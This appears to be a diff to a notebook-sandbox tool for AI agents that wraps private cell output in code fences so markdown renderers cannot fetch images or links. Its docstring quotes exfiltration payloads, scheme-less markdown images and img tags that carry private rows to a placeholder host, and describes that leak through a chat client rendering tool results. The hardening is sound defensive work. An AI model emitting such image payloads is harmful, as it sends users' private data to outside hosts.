@@ -21,6 +21,13 @@ output is made here (tags stripped, entities decoded), so ``https&#58;//``
 in the sandbox's HTML, harmless in a page, came back as a live
 ``https://`` for an agent that follows links (guarantee 8; an attack
 review), and an exception's class name is any string a cell chooses.
+
+It is also put in code (:func:`inert`, :func:`inert_inline`): an MCP
+client may render a tool's result as markdown, and defanged text still
+held images without a scheme (``![x](//host/p.png?d=ROW)``, ``<img
+src=//host>``, ``![x](http:host/p)``), which a chat client fetched with
+the private rows in the address (a later review, rendered in Chromium).
+No markdown renderer makes an image, a link or HTML of code.
 """
 
 from __future__ import annotations
@@ -149,6 +156,31 @@ class ImageGate:
         return tag + "]"
 
 
+_BACKTICK_RUN = re.compile(r"`+")
+
+
+def _ticks(text: str, least: int) -> str:
+    """A run of backticks longer than any in ``text`` (at least ``least``)."""
+    longest = max((len(run) for run in _BACKTICK_RUN.findall(text)), default=0)
+    return "`" * max(least, longest + 1)
+
+
+def inert(text: str) -> str:
+    """``text`` as a fenced code block whose fence no line of it can close:
+    a markdown renderer shows it as it is."""
+    fence = _ticks(text, 3)
+    return f"{fence}\n{text}\n{fence}"
+
+
+def inert_inline(text: str) -> str:
+    """``text`` as a code span no backtick run in it can close, on one line:
+    a line of its own could start a heading, a list or a fence, which ends
+    the paragraph and the span with it."""
+    text = text.replace("\r", " ").replace("\n", " ")
+    ticks = _ticks(text, 1)
+    return f"{ticks} {text} {ticks}"
+
+
 def output_text(out: CellOutput, images: ImageGate, private: bool = False) -> tuple[str, str]:
     """(label, text) of one output, defanged when the session is ``private``."""
     label, text = _output_text(out, images)
@@ -185,11 +217,13 @@ def _share(lengths: list[int], budget: int) -> int:
     return max(ordered, default=0)
 
 
-def _output_blocks(texts: list[tuple[str, str]], per: int, total: int, hint: str) -> list[str]:
+def _output_blocks(texts: list[tuple[str, str]], per: int, total: int, hint: str, private: bool = False) -> list[str]:
     """Each output as its label line and text, cut to ``per`` characters, and
     all of them to about ``total``: an equal share for the long ones, and past
-    as many outputs as the budget can show, the middle ones left out (named)."""
-    blocks = [f"--- {label} ---\n{truncate(text, per, hint)}" for label, text in texts]
+    as many outputs as the budget can show, the middle ones left out (named).
+    ``private``: each text in code (:func:`inert`)."""
+    shown_as = inert if private else str
+    blocks = [f"--- {label} ---\n{shown_as(truncate(text, per, hint))}" for label, text in texts]
     if sum(len(b) + 1 for b in blocks) <= total:
         return blocks  # the common case, as it always was
     shown = max(2, total // (_MIN_SHARE + _BLOCK_OVERHEAD))
@@ -208,7 +242,7 @@ def _output_blocks(texts: list[tuple[str, str]], per: int, total: int, hint: str
     out = []
     for i in head:
         label, text = texts[i]
-        out.append(f"--- {label} ---\n{truncate(text, cap, hint)}")
+        out.append(f"--- {label} ---\n{shown_as(truncate(text, cap, hint))}")
         if omitted and i == (shown + 1) // 2 - 1:
             out.append(omitted)
     return out
@@ -229,7 +263,7 @@ def render_cell(
         head += f" ({cell.duration:.2f} s)"
     lines = [head]
     if show_code:
-        lines += ["--- code ---", cell.code]
+        lines += ["--- code ---", inert(cell.code) if private else cell.code]
     per = FULL_OUTPUT_CHARS if full else limit
     gate = ImageGate(FULL_MAX_IMAGES if full else MAX_IMAGES)
     hint = f"call repl_show_cell({number}, full=True) for the full output"
@@ -237,7 +271,7 @@ def render_cell(
         hint = "have the cell write it to a file in /workspace and read it in parts"
     texts = [output_text(out, gate, private) for out in cell.outputs]
     texts = [(label, text.rstrip("\n")) for label, text in texts]
-    lines += _output_blocks(texts, per, FULL_RESULT_CHARS if full else MAX_RESULT_CHARS, hint)
+    lines += _output_blocks(texts, per, FULL_RESULT_CHARS if full else MAX_RESULT_CHARS, hint, private)
     if gate.left_out:
         see = "" if full else f"repl_show_cell({number}, full=True) returns up to {FULL_MAX_IMAGES}; "
         lines.append(
@@ -273,11 +307,12 @@ def render_notebook(nb: Notebook, header: str = "", private: bool = False) -> st
         )
         summary = ""
         if cell.state == CellState.ERROR and cell.error is not None:
-            summary = strip_ansi(f" -> {cell.error.ename}: {truncate(cell.error.evalue or '', 200)}")
-            summary = defang_text(summary) if private else summary
+            said = strip_ansi(f"{cell.error.ename}: {truncate(cell.error.evalue or '', 200)}")
+            summary = f" -> {inert_inline(defang_text(said))}" if private else f" -> {said}"
         elif cell.outputs:
             numbered = ImageGate(None)
             first = " ".join(output_text(o, numbered, private)[1] for o in cell.outputs).strip().replace("\n", " ")
-            summary = f" -> {truncate(first, 120)}" if first else ""
+            first = truncate(first, 120)
+            summary = (f" -> {inert_inline(first)}" if private else f" -> {first}") if first else ""
         lines.append(f"[{i}] ({count}) {cell.state.value.upper()}{summary}\n    {shown}{more}")
     return "\n".join(lines)
